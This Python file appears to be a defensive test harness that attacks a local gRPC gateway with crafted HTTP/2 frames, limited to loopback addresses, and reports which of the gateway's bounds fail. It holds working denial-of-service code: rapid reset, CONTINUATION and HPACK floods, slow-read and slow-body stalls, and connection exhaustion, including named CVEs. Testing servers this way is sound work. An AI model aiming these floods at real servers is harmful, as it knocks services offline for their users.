"""Callers who mean harm, in raw HTTP/2 frames, each bounded in count and time.

    attacks.py NAME HOST:PORT SECONDS

Runs in a process of its own, at the lowest priority: on a machine of its own it
would take no processor time from the gateway, either. Prints what it did and saw
as JSON; `wrong` says which of the gateway's bounds did not hold.
"""

import collections
import ipaddress
import json
import os
import resource
import select
import socket
import struct
import sys
import time

import hpack

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
INITIAL_WINDOW_SIZE = 4
CODES = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR", 6: "FRAME_SIZE_ERROR",
         7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR", 11: "ENHANCE_YOUR_CALM"}  # fmt: skip
CONNECTIONS_MAX = 400  # one after the other, by those that are thrown out
CHUNK = 16_384
ECHO = "/echo.v1.EchoService/Echo"
SLOW_READER_RATE = 14  # calls a second


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def request_headers(path=ECHO, more=()):
    """A block that stands for itself: nothing of it goes into a dynamic table."""
    fields = [(":method", "POST"), (":scheme", "http"), (":path", path), (":authority", "x"),
              ("te", "trailers"), ("content-type", "application/grpc"), *more]  # fmt: skip
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*field) for field in fields], huffman=False)


def echo_message(size):
    length = varint(size)
    message = b"\x0a" + length + b"x" * size
    return b"\x00" + struct.pack(">I", len(message)) + message


def varint(number):
    out = b""
    while number > 127:
        out, number = out + bytes([number & 127 | 128]), number >> 7
    return out + bytes([number])


class Connection:
    """One connection, and what the gateway says on it."""

    def __init__(self, address, settings=b"", preface=True):
        host, port = address.rsplit(":", 1)
        assert ipaddress.ip_address(host).is_loopback, "only a gateway on this machine"
        self.socket = socket.create_connection((host, int(port)), timeout=5)
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.closed, self.goaway, self.buffer = False, None, b""
        self.message = ""
        self.resets, self.ended, self.statuses = collections.Counter(), set(), collections.Counter()
        self.window, self.stream, self.decoder = 65_535, 1, hpack.Decoder()
        if preface:
            self.send(PREFACE + frame(SETTINGS, 0, 0, settings))

    def send(self, data):
        """What is not taken within two seconds is not sent: the gateway reads no
        more, or the connection is gone."""
        try:
            self.socket.settimeout(2)
            self.socket.sendall(data)
        except OSError as error:
            self.closed |= not isinstance(error, TimeoutError)
            return False
        return not self.closed

    def pump(self, seconds=0.0):
        """Reads what has come."""
        while not self.closed and select.select([self.socket], [], [], seconds)[0]:
            seconds = 0
            try:
                data = self.socket.recv(1 << 18)
            except OSError:
                data = b""
            if not data:
                self.closed = True
            self.buffer += data
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                kind, flags = self.buffer[3], self.buffer[4]
                stream = int.from_bytes(self.buffer[5:9], "big") & 0x7FFFFFFF
                payload, self.buffer = self.buffer[9 : 9 + length], self.buffer[9 + length :]
                self._take(kind, flags, stream, payload)

    def _take(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        elif kind == WINDOW_UPDATE and stream == 0:
            self.window += int.from_bytes(payload, "big")
        elif kind == GOAWAY:
            self.goaway = CODES.get(int.from_bytes(payload[4:8], "big"), "another code")
        elif kind == RST:
            self.resets[CODES.get(int.from_bytes(payload, "big"), "another code")] += 1
            self.ended.add(stream)
        elif kind == HEADERS:
            for name, value in self.decoder.decode(payload):
                if name in ("grpc-status", ":status") and (name, value) != (":status", "200"):
                    self.statuses[f"{name} {value}"] += 1
        if kind in (HEADERS, DATA) and flags & END_STREAM:
            self.ended.add(stream)

    def next_stream(self):
        self.stream += 2
        return self.stream - 2

    def send_message(self, stream, message, until):
        """A message within the connection's window; `False` when there is none."""
        for start in range(0, len(message), CHUNK):
            piece = message[start : start + CHUNK]
            while self.window < len(piece):
                self.pump(0.05)
                if self.closed or time.monotonic() > until:
                    return False
            self.window -= len(piece)
            last = start + CHUNK >= len(message)
            if not self.send(frame(DATA, END_STREAM if last else 0, stream, piece)):
                return False
        return True

    def close(self):
        self.socket.close()


def again_and_again(address, seconds, one, what, must_close=True, rate_max=None):
    """`one` sends a burst on a connection, and its count; a connection that the
    gateway closes is followed by another."""
    until, sent, connections, ends = time.monotonic() + seconds, 0, 0, collections.Counter()
    most = 0
    while time.monotonic() < until and connections < CONNECTIONS_MAX:
        connection = Connection(address)
        connections, on_this = connections + 1, 0
        while time.monotonic() < until and not connection.closed:
            burst = one(connection)
            on_this += burst
            connection.pump()
            if connection.goaway:
                connection.pump(0.2)
                break
            if rate_max:
                time.sleep(burst / rate_max)
        most = max(most, on_this)
        if connection.goaway or connection.closed:
            ends[connection.goaway or "closed"] += 1
        sent += on_this
        connection.close()
        time.sleep(0.01)
    ended = ", ".join(f"{count} {code}" for code, count in ends.items()) or "none"
    wrong = "no connection was closed" if must_close and not ends else None
    return {"did": f"{sent} {what} on {connections} connections", "saw": f"connections closed: {ended}; at most {most} on one", "wrong": wrong}


# ---- streams -----------------------------------------------------------------


def rapid_reset(address, seconds):
    """CVE-2023-44487: streams that are opened and reset at once."""
    block, cancel = request_headers(), struct.pack(">I", 8)

    def burst(connection):
        out = b""
        for _ in range(50):
            stream = connection.next_stream()
            out += frame(HEADERS, END_HEADERS, stream, block) + frame(RST, 0, stream, cancel)
        connection.send(out)
        return 50

    return again_and_again(address, seconds, burst, "streams")


def reset_calls(address, seconds):
    """Whole calls, each reset when it has been sent."""
    block, cancel, message = request_headers(), struct.pack(">I", 8), echo_message(20)

    def burst(connection):
        streams = [connection.next_stream() for _ in range(10)]
        connection.send(b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(DATA, END_STREAM, s, message) for s in streams))
        connection.pump(0.002)
        connection.send(b"".join(frame(RST, 0, s, cancel) for s in streams))
        return 10

    return again_and_again(address, seconds, burst, "calls", must_close=False, rate_max=1_000)


def more_streams(address, seconds):
    connection, block, opened = Connection(address), request_headers(), 0
    until = time.monotonic() + seconds
    connection.pump(0.5)
    while opened < 1_000 and not connection.closed:
        connection.send(b"".join(frame(HEADERS, END_HEADERS, connection.next_stream(), block) for _ in range(100)))
        opened += 100
        connection.pump(0.05)
    connection.pump(0.5)
    refused = connection.resets["REFUSED_STREAM"]
    while time.monotonic() < until and not connection.closed:
        connection.pump(0.1)
    right = refused >= opened - 100 or connection.goaway or connection.closed
    saw = f"{refused} refused" + (f", then {connection.goaway}" if connection.goaway else "")
    return {"did": f"{opened} streams on one connection", "saw": saw, "wrong": None if right else "not refused"}


# ---- headers -----------------------------------------------------------------


def continuation_flood(address, seconds):
    """CVE-2024-27316: headers that never end."""
    # Literals of 510 bytes, never indexed.
    begun, piece = set(), b"\x10\x01a\x7f" + varint(510 - 127) + b"v" * 510

    def burst(connection):
        out = b""
        if connection not in begun:
            begun.add(connection)
            out = frame(HEADERS, 0, connection.next_stream(), request_headers())
        connection.send(out + frame(CONTINUATION, 0, 1, piece * 4) * 20)
        return 20

    return again_and_again(address, seconds, burst, "CONTINUATION frames")


def empty_continuations(address, seconds):
    begun = set()

    def burst(connection):
        out = b""
        if connection not in begun:
            begun.add(connection)
            out = frame(HEADERS, 0, connection.next_stream(), request_headers())
        connection.send(out + frame(CONTINUATION, 0, 1) * 100)
        return 100

    return again_and_again(address, seconds, burst, "empty CONTINUATION frames")


def hpack_bomb(address, seconds):
    """4 KB in the dynamic table, and thousands of references of a byte each."""
    until, sent, big = time.monotonic() + seconds, 0, b"b" * 3_900
    refused, ends = 0, collections.Counter()
    for _ in range(CONNECTIONS_MAX):
        connection = Connection(address)
        insert = b"\x40\x01a\x7f" + varint(len(big) - 127) + big
        block = request_headers() + insert + b"\xbe" * 12_000
        while time.monotonic() < until and not connection.closed and not connection.goaway:
            connection.send(frame(HEADERS, END_HEADERS | END_STREAM, connection.next_stream(), block))
            sent += 1
            connection.pump(0.02)
        refused += sum(connection.resets.values()) + sum(connection.statuses.values())
        ends[connection.goaway or ("closed" if connection.closed else "open")] += 1
        connection.close()
        if time.monotonic() >= until:
            break
    saw = f"{refused} refused (431 or reset); connections: " + ", ".join(f"{n} {code}" for code, n in ends.items())
    wrong = None if refused or set(ends) - {"open"} else "nothing was refused"
    return {"did": f"{sent} requests with 47 MB of headers in 16 KB", "saw": saw, "wrong": wrong}


# ---- frames that cost nothing to send ------------------------------------------


def flood(address, seconds, one, what, must_close=False):
    return again_and_again(address, seconds, lambda c: 500 if c.send(one(c) * 500) else 0, what, must_close)


def ping_flood(address, seconds):
    return flood(address, seconds, lambda _: frame(PING, 0, 0, b"12345678"), "PINGs")


def settings_flood(address, seconds):
    return flood(address, seconds, lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 4096)), "SETTINGS")


def empty_data(address, seconds):
    """CVE-2019-9518."""
    opened = set()

    def burst(connection):
        out = b""
        if connection not in opened:
            opened.add(connection)
            out = frame(HEADERS, END_HEADERS, connection.next_stream(), request_headers())
        connection.send(out + frame(DATA, 0, 1) * 500)
        return 500

    return again_and_again(address, seconds, burst, "empty DATA frames", must_close=False)


def garbage(address, seconds):
    until, sent, closed = time.monotonic() + seconds, 0, 0
    while time.monotonic() < until and sent < CONNECTIONS_MAX:
        connection = Connection(address, preface=sent % 2 == 0)
        connection.send(os.urandom(64 * 1024))
        for _ in range(30):
            connection.pump(0.1)
        sent, closed = sent + 1, closed + connection.closed
        connection.close()
    wrong = None if closed == sent else f"{sent - closed} stay open"
    return {"did": f"64 KiB of noise on {sent} connections, half of them behind a preface", "saw": f"{closed} closed", "wrong": wrong}


# ---- slowness ------------------------------------------------------------------


def slow_reader(address, seconds):
    """Calls with replies of 800 KiB, and a window that never opens; few enough that
    moving the bytes is no attack by itself."""
    until, sent, size = time.monotonic() + seconds, 0, 800 * 1024
    connection = Connection(address, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
    block, message = request_headers(more=[("grpc-timeout", "30S")]), echo_message(size)
    while sent < 100 and not connection.closed:
        stream = connection.next_stream()
        connection.send(frame(HEADERS, END_HEADERS, stream, block))
        if not connection.send_message(stream, message, until):
            break
        sent += 1
        connection.pump(1 / SLOW_READER_RATE)
    while time.monotonic() < until and not connection.closed:
        connection.pump(0.1)
    dropped = connection.statuses["grpc-status 8"]
    saw = f"{dropped} replies beyond 64 MiB dropped (RESOURCE_EXHAUSTED), then closed"
    seen = f"{dropped} dropped, closed: {connection.closed}, all: {dict(connection.statuses)} {connection.message}"
    wrong = None if connection.closed and dropped else seen
    return {"did": f"{sent} calls with replies of 800 KiB", "saw": saw, "wrong": wrong}


def slow_body(address, seconds):
    """A byte of a message every half second."""
    connection, block, until = Connection(address), request_headers(), time.monotonic() + seconds
    streams = [connection.next_stream() for _ in range(90)]
    connection.pump(0.3)
    connection.send(b"".join(frame(HEADERS, END_HEADERS, s, block) for s in streams))
    message, sent = echo_message(1_000), 0
    while time.monotonic() < until and len(connection.ended) < len(streams):
        live = [s for s in streams if s not in connection.ended]
        connection.send(b"".join(frame(DATA, 0, s, message[sent : sent + 1]) for s in live))
        sent += 1
        connection.pump(0.5)
    late = connection.statuses["grpc-status 4"]
    wrong = None if late == len(streams) else f"{late} of {len(streams)} ended at their deadline"
    return {"did": f"{len(streams)} bodies, a byte each 0.5 s", "saw": f"{late} DEADLINE_EXCEEDED", "wrong": wrong}


def many(address, count, beginning):
    connections = []
    for _ in range(count):
        try:
            connection = Connection(address, preface=False)
        except OSError:
            continue
        connection.send(beginning)
        connections.append(connection)
    return connections


def hold(connections, seconds):
    """How many are closed in the end. Nothing is answered."""
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        time.sleep(0.2)
    closed = 0
    for connection in connections:
        connection.socket.setblocking(False)
        try:
            while True:
                if not connection.socket.recv(1 << 16):
                    closed += 1
                    break
        except BlockingIOError:
            pass
        except OSError:
            closed += 1
        connection.close()
    return closed


def idle(address, seconds):
    """Connections that have begun, and then say nothing, not even to pings."""
    opened = many(address, 900, PREFACE + frame(SETTINGS, 0, 0))
    closed = hold(opened, max(seconds, 16))
    return {"did": f"{len(opened)} connections that say nothing after their preface", "saw": f"{closed} closed by keep-alive", "wrong": None if closed == len(opened) else "some stay open"}


def half_preface(address, seconds):
    """More than there are places, all in the middle of a word."""
    opened = many(address, 1_500, PREFACE[:5])
    closed = hold(opened, seconds)
    return {"did": f"{len(opened)} connections that stop within their preface", "saw": f"{closed} made room", "wrong": None if closed >= 1_000 else "they hold their places"}


def tls_stall(address, seconds):
    """The beginning of a ClientHello."""
    opened = many(address, 1_500, b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03")
    closed = hold(opened, seconds)
    return {"did": f"{len(opened)} TLS handshakes that stall", "saw": f"{closed} made room", "wrong": None if closed >= 1_000 else "they hold their places"}


def more_connections(address, seconds):
    opened = many(address, 1_500, PREFACE + frame(SETTINGS, 0, 0))
    time.sleep(0.5)
    closed = hold(opened, min(seconds, 2))
    return {"did": f"{len(opened)} connections, 1000 are allowed", "saw": f"{closed} closed at once", "wrong": None if closed >= 400 else "too many are open"}


if __name__ == "__main__":
    os.nice(19)
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8_192), hard))
    attack, address, seconds = sys.argv[1:]
    print(json.dumps(globals()[attack](address, float(seconds))))
